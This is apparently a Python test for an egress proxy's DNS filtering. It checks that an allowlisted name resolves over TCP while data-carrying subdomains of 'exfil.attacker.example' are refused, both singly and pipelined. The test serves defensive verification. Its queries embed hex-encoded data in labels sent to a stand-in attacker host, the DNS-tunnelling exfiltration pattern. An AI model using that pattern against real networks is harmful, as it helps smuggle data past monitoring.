# what: DNS over TCP (port 53): still proxyd's DNS, an allowed name answered, a data-carrying name refused, a pipelined pair on one connection
# expect-allowed: allowed.test dns
# inet: allow allowed.test
# expect-denied: tcp1-6c65616b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: tcp2-6c65616b.exfil.attacker.example 53 dns not_allowlisted
# expect-denied: tcp3-6c65616b.exfil.attacker.example 53 dns not_allowlisted
# expect-stdout: DONE 4 ok
import os, random, socket, struct


def dns_query(name, qtype=1, server="198.18.0.2", tcp=False, qclass=1):
    """One query, as raw wire bytes; returns (rcode, ancount) or raises."""
    qid = random.randrange(65536)
    q = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        b = label.encode()
        q += bytes([len(b)]) + b
    q += b"\0" + struct.pack(">HH", qtype, qclass)
    if tcp:
        s = socket.create_connection((server, 53), timeout=10)
        try:
            s.sendall(struct.pack(">H", len(q)) + q)
            buf = b""
            while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
                chunk = s.recv(65537)
                if not chunk:
                    raise ConnectionError("closed after %d bytes" % len(buf))
                buf += chunk
            r = buf[2:]
        finally:
            s.close()
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        try:
            s.sendto(q, (server, 53))
            r, _ = s.recvfrom(65535)
        finally:
            s.close()
    rid, flags, _, an = struct.unpack(">HHHH", r[:8])
    if rid != qid:
        raise ValueError("answer for another id")
    return flags & 0xF, an

# TCP to port 53 anywhere is redirected to proxyd's DNS server, like UDP:
# the same policy, and the refused names never reach dnsmasq.
import socket
import struct

ok = 0
try:
    rcode, an = dns_query("allowed.test", tcp=True)
    if rcode == 0 and an >= 1:
        ok += 1
        print("OK allowed.test answered over TCP")
    else:
        print("FAIL allowed.test rcode", rcode, "answers", an)
except OSError as e:
    print("FAIL allowed.test over TCP:", e)
try:
    rcode, an = dns_query("tcp1-6c65616b.exfil.attacker.example", tcp=True)
    if rcode == 3 and an == 0:
        ok += 1
        print("BLOCKED tcp1 NXDOMAIN")
    else:
        print("LEAK tcp1 rcode", rcode, "answers", an)
except OSError as e:
    print("LEAK? tcp1 no answer:", e)


def q(qid, name):
    m = struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        m += bytes([len(label)]) + label.encode()
    m += b"\0" + struct.pack(">HH", 1, 1)
    return struct.pack(">H", len(m)) + m


# Two queries in one write: each is judged, each answered in turn.
s = socket.create_connection(("198.18.0.2", 53), timeout=10)
s.sendall(q(1, "tcp2-6c65616b.exfil.attacker.example") +
          q(2, "tcp3-6c65616b.exfil.attacker.example"))
buf = b""
while True:
    try:
        chunk = s.recv(4096)
    except OSError:
        break
    if not chunk:
        break
    buf += chunk
    if len(buf) >= 4 and len(buf) >= 2 + struct.unpack(">H", buf[:2])[0] + 2:
        first = 2 + struct.unpack(">H", buf[:2])[0]
        if len(buf) >= first + 2 + struct.unpack(">H", buf[first:first + 2])[0]:
            break
s.close()
while len(buf) >= 2:
    n = struct.unpack(">H", buf[:2])[0]
    m, buf = buf[2:2 + n], buf[2 + n:]
    qid, rcode, an = struct.unpack(">H", m[:2])[0], m[3] & 0xF, struct.unpack(">H", m[6:8])[0]
    if rcode == 3 and an == 0:
        ok += 1
        print("BLOCKED pipelined", qid, "NXDOMAIN")
    else:
        print("LEAK pipelined", qid, "rcode", rcode, "answers", an)
print("DONE", ok, "ok")
